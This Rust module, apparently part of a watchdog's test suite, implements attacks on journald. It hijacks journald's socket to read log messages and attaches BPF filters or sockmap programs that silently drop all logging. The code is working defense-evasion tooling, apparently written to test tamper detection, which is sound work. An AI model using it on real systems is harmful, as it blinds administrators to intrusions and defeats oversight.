//! Attacks on the path between the watchdog and journald.

use std::fs;
use std::io;
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::net::UnixDatagram;
use std::thread;

use watchdog_tests::errno::checked;

use crate::bpf::code::{EXIT, set};
use crate::bpf::{self, A_WHILE, Program, bpf, halves};
use crate::process;

/// Where journald listens (systemd-journald.service(8)).
const SOCKET: &str = "/run/systemd/journal/socket";
/// `BPF_MAP_TYPE_SOCKMAP`.
const MAP_OF_SOCKETS: u32 = 15;
/// `BPF_PROG_TYPE_SK_SKB`.
const PACKETS: u32 = 14;
/// `BPF_SK_SKB_VERDICT`.
const AT_PACKETS: u32 = 38;
/// `SK_DROP`.
const DROP: i32 = 0;

/// Binds journald's socket, and prints what other processes send to it.
pub(crate) fn take() -> io::Result<()> {
    let socket = UnixDatagram::bind(SOCKET)?;
    let mut bytes = vec![0; 1 << 16];
    loop {
        let length = socket.recv(&mut bytes)?;
        println!("{}", String::from_utf8_lossy(bytes.get(..length).unwrap_or_default()));
    }
}

/// Attaches a filter to the socket of journald (`pid`), which drops all messages until it is
/// detached.
pub(crate) fn filter(pid: i32) -> io::Result<()> {
    // `BPF_RET | BPF_K`: `k` is how many bytes of each datagram are left.
    let mut none = libc::sock_filter { code: 0x06, jt: 0, jf: 0, k: 0 };
    let program = libc::sock_fprog { len: 1, filter: &raw mut none };
    set_option(&socket(pid)?, libc::SO_ATTACH_FILTER, &program)
}

/// Detaches this filter.
pub(crate) fn unfilter(pid: i32) -> io::Result<()> {
    set_option(&socket(pid)?, libc::SO_DETACH_FILTER, &0_i32)
}

/// Puts the socket of journald (`pid`) into a socket map whose BPF program drops all messages, and
/// keeps it there for three minutes.
pub(crate) fn map(pid: i32) -> io::Result<()> {
    // One entry, with a key and a value of 4 bytes each.
    let map = bpf::owned(bpf(bpf::MAP_CREATE, &[MAP_OF_SOCKETS, 4, 4, 1])?);
    let code = [set(0, DROP), EXIT];
    let program = Program { kind: PACKETS, attach: 0, target: 0, code: &code }.load()?;
    let [map_number, program] = [map.as_raw_fd(), program.as_raw_fd()].map(i32::cast_unsigned);
    bpf(bpf::PROG_ATTACH, &[map_number, program, AT_PACKETS, 0, 0])?;
    let socket = socket(pid)?;
    let (key, value) = (0_u32, socket.as_raw_fd());
    let ([key_low, key_high], [value_low, value_high]) =
        (halves(&raw const key as u64), halves(&raw const value as u64));
    bpf(bpf::MAP_UPDATE_ELEM, &[map_number, 0, key_low, key_high, value_low, value_high, 0, 0])?;
    drop(socket);
    println!("there");
    thread::sleep(A_WHILE);
    Ok(())
}

/// Returns a descriptor of the socket on which a process listens for journal messages.
fn socket(pid: i32) -> io::Result<OwnedFd> {
    let missing = || io::Error::from(io::ErrorKind::NotFound);
    let sockets = fs::read_to_string("/proc/net/unix")?;
    let line = sockets.lines().find(|line| line.ends_with(SOCKET)).ok_or_else(missing)?;
    let number = line.split_whitespace().nth(6).ok_or_else(missing)?;
    let link = format!("socket:[{number}]");
    for entry in fs::read_dir(format!("/proc/{pid}/fd"))? {
        let path = entry?.path();
        if fs::read_link(&path).is_ok_and(|it| it.as_os_str() == link.as_str()) {
            let number = path.file_name().and_then(|it| it.to_str()?.parse().ok());
            return process::descriptor(pid, number.ok_or_else(missing)?);
        }
    }
    Err(missing())
}

fn set_option<T>(socket: &OwnedFd, option: i32, value: &T) -> io::Result<()> {
    let (value, size) = (std::ptr::from_ref(value).cast(), size_of::<T>() as u32);
    // SAFETY: the kernel reads the value, and the memory it points to lives as long as the call.
    checked(
        unsafe { libc::setsockopt(socket.as_raw_fd(), libc::SOL_SOCKET, option, value, size) }
            .into(),
    )
    .map(drop)
}
